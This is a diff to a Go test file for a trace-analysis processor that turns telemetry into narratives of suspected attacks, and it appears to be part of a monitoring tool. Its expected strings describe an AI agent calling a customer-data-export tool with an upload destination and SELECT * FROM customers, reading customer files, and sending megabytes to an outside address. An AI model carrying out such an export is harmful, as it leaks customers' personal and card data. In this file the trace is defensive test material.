@@ -10,6 +10,7 @@ import (
 	"go.opentelemetry.io/collector/component/componenttest"
 	"go.opentelemetry.io/collector/pdata/ptrace"
 
+	"github.com/agenttrail/agenttrail/processor/attackstoryprocessor/internal/finding"
 	"github.com/agenttrail/agenttrail/processor/attackstoryprocessor/internal/story"
 	"github.com/agenttrail/agenttrail/processor/attackstoryprocessor/profile"
 )
@@ -35,7 +36,7 @@ func TestNarrative(t *testing.T) {
 			" → chat model-x → connect 127.0.0.1:18443"+
 			" → execute_tool customer-data-export(destination=http://127.0.0.2:19999/upload, query=SELECT * FROM customers)"+
 			" → read /srv/bank/customers.csv → connect 127.0.0.2:19999 → chat model-x → connect 127.0.0.1:18443",
-			narrative(storyFacts(t, b), narrativeHints{}))
+			finding.Narrative(storyFacts(t, b), finding.Hints{}))
 	})
 
 	t.Run("bytes sent, long arguments, repeats, a failed open, on a host", func(t *testing.T) {
@@ -54,7 +55,7 @@ func TestNarrative(t *testing.T) {
 			" → execute_tool customer-data-export(query=SELECT id, name, email, card_num…)"+
 			" → read /data/customers.db → read /data/missing.db failed (ENOENT)"+
 			" → connect 203.0.113.9:443, 2.1 MB sent → sendto 203.0.113.9:443 ×2",
-			narrative(storyFacts(t, b), narrativeHints{}))
+			finding.Narrative(storyFacts(t, b), finding.Hints{}))
 	})
 
 	t.Run("a model call and its decrypted TLS call below it are one step", func(t *testing.T) {
@@ -69,7 +70,7 @@ func TestNarrative(t *testing.T) {
 		}
 		assert.Equal(t, "10:02:03.120 customer-agent (pid 4242) accepted a prompt in main.(*Agent).HandlePrompt"+
 			" → chat model-x → connect 127.0.0.1:18443 → chat model-x → connect 127.0.0.1:18443",
-			narrative(storyFacts(t, b), narrativeHints{}))
+			finding.Narrative(storyFacts(t, b), finding.Hints{}))
 	})
 
 	t.Run("clock skew: a child that seems to start before its parent comes after it", func(t *testing.T) {
@@ -78,7 +79,7 @@ func TestNarrative(t *testing.T) {
 		root := p.prompt(traceID(1), 100, 1000, "hi")
 		p.tool(root, 50, 60, "accounts-summary") // another CPU's clock
 		assert.Equal(t, "10:02:03.220 customer-agent (pid 4242) accepted a prompt in main.(*Agent).HandlePrompt → execute_tool accounts-summary()",
-			narrative(storyFacts(t, b), narrativeHints{}))
+			finding.Narrative(storyFacts(t, b), finding.Hints{}))
 	})
 }
 
